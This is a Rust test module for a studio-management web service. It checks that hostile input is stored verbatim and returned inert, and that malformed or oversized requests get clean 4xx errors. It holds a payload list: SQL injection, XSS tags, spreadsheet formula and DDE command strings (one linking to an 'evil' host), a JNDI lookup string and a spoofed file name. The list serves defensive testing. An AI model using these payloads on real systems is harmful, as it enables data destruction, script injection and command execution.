//! Hostile input (issue #9): SQL and HTML injection and spreadsheet formulas in every free-text
//! field are stored verbatim and come back inert (as JSON a browser does not sniff, and as CSV cells
//! a spreadsheet does not run); oversized bodies and uploads are refused early; malformed JSON,
//! paths and query strings get a 4xx with the `ErrorBody`, never a 5xx.
//! One file per kind of attack; the payloads and the readings of answers they share are here.

mod injection_in_applications;
mod injection_in_ledger_reports_and_users;
mod injection_in_notices;
mod malformed_bodies;
mod openapi_document;
mod oversized_bodies;
mod paths_and_queries;

use crate::helpers::{Session, TestApp, TestClock, json};
use chrono::{TimeZone, Utc};
use serde_json::{Value, json};

pub(super) const HRSS: &str = "hrss";
pub(super) const FINANCE: &str = "finance";
/// The applicant of 银川塞上机床制造有限公司 (unit row 0), recommended by `yc.bureau`.
pub(super) const YC: &str = "yc.saishang";
/// Regional, approved 2026-11-16, building; of yc.saishang's unit.
pub(super) const YC_BUILDING: &str = "马建华加工中心操作工技能大师工作室";
/// The day of the tests on the studio's money and reports: inside the 2026 term of [`YC_BUILDING`].
pub(super) const DECEMBER_DAY: &str = "2026-12-20";

// The payloads and what is expected of them

/// 5,000 characters of Chinese: the longest plan or objection, far too long for a name.
fn long_chinese() -> String {
    "技能大师工作室建设方案"
        .chars()
        .cycle()
        .take(5000)
        .collect()
}

/// What an attacker types into a free-text field.
pub(super) fn payloads() -> Vec<String> {
    let mut texts: Vec<String> = [
        "'); DROP TABLE studio; --",
        "\" OR 1=1 --",
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "=HYPERLINK(\"http://evil\",\"x\")",
        "+cmd|'/c calc'!A1",
        "-2+3+cmd|'/c calc'!A0",
        "@SUM(1+1)*cmd|'/c calc'!A0",
        "${jndi:ldap://x}",
        "\\'; SELECT * FROM user_account WHERE '%_' LIKE '%",
        "𠀀😀 \u{202E}gpj.exe\u{200D}",
    ]
    .into_iter()
    .map(str::to_owned)
    .collect();
    texts.push(long_chinese());
    texts
}

/// A free-text field as the server names it in a 422, and the most characters it takes.
pub(super) type Field = (&'static str, usize);

/// The fields of `fields` that `text` is too long for, sorted: a 422 must name exactly these.
pub(super) fn too_long_for(text: &str, fields: &[Field]) -> Vec<String> {
    let n = text.chars().count();
    let mut names: Vec<String> = fields
        .iter()
        .filter(|(_, max)| n > *max)
        .map(|(name, _)| (*name).to_owned())
        .collect();
    names.sort();
    names
}

pub(super) fn sorted(mut names: Vec<String>) -> Vec<String> {
    names.sort();
    names
}

/// `text` if `field` is not among `refused`, else `plain`.
pub(super) fn unless_refused(field: &str, refused: &[String], text: &str, plain: &str) -> Value {
    if refused.iter().any(|r| r == field) {
        json!(plain)
    } else {
        json!(text)
    }
}

/// The first 40 characters of a payload, for failure messages.
pub(super) fn short(text: &str) -> String {
    text.chars().take(40).collect()
}

// Reading answers

/// The status and JSON body of a response, asserting it is served as JSON that no browser sniffs
/// as HTML: a stored `<script>` comes back as data.
pub(super) async fn answer(response: reqwest::Response) -> (u16, Value) {
    let status = response.status().as_u16();
    let header = |name: &str| {
        response
            .headers()
            .get(name)
            .and_then(|v| v.to_str().ok())
            .unwrap_or_default()
            .to_owned()
    };
    let (content_type, nosniff) = (header("content-type"), header("x-content-type-options"));
    let body = json(response).await;
    assert!(
        content_type.starts_with("application/json"),
        "served as {content_type:?}: {body}"
    );
    assert_eq!(nosniff, "nosniff", "no X-Content-Type-Options: {body}");
    (status, body)
}

/// Asserts a 4xx answered with the `ErrorBody` (a `code` and a `message`); returns its status
/// and body.
pub(super) async fn refused(response: reqwest::Response) -> (u16, Value) {
    let status = response.status().as_u16();
    let text = response.text().await.expect("cannot read the body");
    assert!(
        (400..500).contains(&status),
        "expected a 4xx, got {status}: {text}"
    );
    let body: Value = serde_json::from_str(&text)
        .unwrap_or_else(|e| panic!("a {status} without the ErrorBody ({e}): {text}"));
    assert!(
        body["code"].as_str().is_some_and(|c| !c.is_empty()),
        "no code: {body}"
    );
    assert!(
        body["message"].as_str().is_some_and(|m| !m.is_empty()),
        "no message: {body}"
    );
    (status, body)
}

/// The number of studios HRSS lists: the `studio` table is still there and still whole.
pub(super) async fn studio_count(app: &TestApp, hrss: &Session) -> usize {
    let (status, list) = answer(app.get_as(hrss, "/api/studios").await).await;
    assert_eq!(status, 200, "the studio list failed: {list}");
    list["studios"]
        .as_array()
        .unwrap_or_else(|| panic!("studios is not an array: {list}"))
        .len()
}

/// The id of the studio named `name`, as HRSS lists them.
pub(super) async fn studio_id(app: &TestApp, hrss: &Session, name: &str) -> i64 {
    app.all_studios(hrss)
        .await
        .iter()
        .find(|s| s["name"] == name)
        .and_then(|s| s["id"].as_i64())
        .unwrap_or_else(|| panic!("no studio named {name}"))
}

/// Moves the clock to 09:00 of `day` in Yinchuan (sessions idle out: sign in again).
pub(super) fn today_is(clock: &TestClock, day: &str) {
    let date = chrono::NaiveDate::parse_from_str(day, "%Y-%m-%d").expect("a YYYY-MM-DD day");
    let nine_in_yinchuan = Utc.from_utc_datetime(&date.and_hms_opt(1, 0, 0).expect("a time"));
    clock.advance(nine_in_yinchuan - clock.now());
}

/// A draft report of 2026 whose texts are `text`, except the `refused` ones.
pub(super) fn hostile_report(text: &str, refused: &[String]) -> Value {
    let t = |field: &str, plain: &str| unless_refused(field, refused, text, plain);
    json!({
        "year": 2026,
        "figures": {
            "training_person_times": 35, "senior_trained": 6, "partner_count": 3,
            "exchange_staff": 3, "team_training": true, "media_level": "city",
            "media_evidence": t("figures.media_evidence", "银川日报 第 3 版《大师带徒》"),
            "trainees": [{
                "name": t("figures.trainees[0].name", "王小军"),
                "birth_date": "1998-05-01", "level": "senior"
            }],
            "lectures": [{
                "topic": t("figures.lectures[0].topic", "五轴数控加工工艺"),
                "held_on": "2026-06-15"
            }]
        },
        "summary": t("summary", "全年开展技能培训 35 人次。"),
        "plan": t("plan", "下一年开展技术攻关 2 项。"),
        "submit": false
    })
}
